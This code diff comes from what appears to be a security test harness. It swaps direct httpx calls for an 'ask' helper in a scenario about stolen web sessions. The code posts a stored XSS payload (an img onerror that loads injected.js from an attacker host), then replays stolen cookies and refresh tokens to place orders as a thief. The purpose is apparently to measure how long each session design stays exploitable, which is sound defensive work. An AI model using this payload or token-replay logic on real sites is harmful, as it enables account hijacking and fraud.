@@ -19,6 +19,7 @@ from propylon.agora.plots import Bar, Bars, Cell, Matrix, Plot
 from propylon.agora.results import Findings, Outcome, Variant, Verdict
 from propylon.agora.said import Said
 from propylon.agora.stage import Pages, Site, Stage, Visitor
+from propylon.agora.stage.asking import ask
 from propylon.agora.stage.sites import PASSWORD, expires_at
 
 APP = "propylon.agora.attacked:application"
@@ -102,7 +103,7 @@ def _scene(stage: Stage, stack: ExitStack) -> Scene:
     attacker = stack.enter_context(stage.pages(FILES))
     site = stack.enter_context(stage.propylon({"password_profile": "unsafe_cheapest"}, app=APP))
     inject = f"s=document.createElement('script');s.src='{attacker.elsewhere}/injected.js';document.body.append(s)"
-    httpx.post(f"{site.url}/reviews", content=f'Nice! <img src=x onerror="{inject}">').raise_for_status()
+    ask("POST", f"{site.url}/reviews", content=f'Nice! <img src=x onerror="{inject}">').raise_for_status()
     for choice in CHOICES:
         site.sign_up(_email(choice))
     return Scene(site, attacker, visitor)
@@ -164,7 +165,7 @@ def _visit(scene: Scene, page: Any, choice: str, place: str) -> None:
 
 
 def _ledger(scene: Scene, choice: str) -> list[str]:
-    ordered: list[str] = httpx.get(f"{scene.site.url}/ledger").json().get(_email(choice), [])
+    ordered: list[str] = ask("GET", f"{scene.site.url}/ledger").json().get(_email(choice), [])
     return ordered
 
 
@@ -180,14 +181,14 @@ def _what_it_brings(scene: Scene, choice: str) -> tuple[list[str], float]:
 
 def _naively(scene: Scene, taken: Mapping[str, Any]) -> tuple[float, bool]:
     headers = {"cookie": taken["cookie"]}
-    let_in = httpx.post(f"{scene.site.url}/naive/orders?by=thief", headers=headers).status_code == httpx.codes.CREATED
+    let_in = ask("POST", f"{scene.site.url}/naive/orders?by=thief", headers=headers).status_code == httpx.codes.CREATED
     return (NO_END, True) if let_in else (0.0, False)
 
 
 def _with_tokens(scene: Scene, taken: Mapping[str, Any]) -> tuple[float, bool]:
     """Try refresh tokens first, which bring the rest; return how long it works, and whether it can be renewed."""
     for refresh_token in taken["refresh"]:
-        renewed = httpx.post(f"{scene.site.url}/v1/session/tokens", json={"refresh_token": refresh_token})
+        renewed = ask("POST", f"{scene.site.url}/v1/session/tokens", json={"refresh_token": refresh_token})
         if renewed.status_code == httpx.codes.OK and _orders(scene, token := renewed.json()["access_token"]):
             return _left_of_session_s(scene, token), True
     lives = [expires_at(token) - time.time() for token in taken["access"] if _orders(scene, token)]
@@ -196,11 +197,11 @@ def _with_tokens(scene: Scene, taken: Mapping[str, Any]) -> tuple[float, bool]:
 
 def _orders(scene: Scene, token: str) -> bool:
     headers = {"authorization": f"Bearer {token}"}
-    return httpx.post(f"{scene.site.url}/orders?by=thief", headers=headers).status_code == httpx.codes.CREATED
+    return ask("POST", f"{scene.site.url}/orders?by=thief", headers=headers).status_code == httpx.codes.CREATED
 
 
 def _left_of_session_s(scene: Scene, token: str) -> float:
-    said = httpx.get(f"{scene.site.url}/v1/session", headers={"authorization": f"Bearer {token}"}).json()
+    said = ask("GET", f"{scene.site.url}/v1/session", headers={"authorization": f"Bearer {token}"}).json()
     return datetime.fromisoformat(said["session"]["expires_at"]).timestamp() - time.time()
 
 
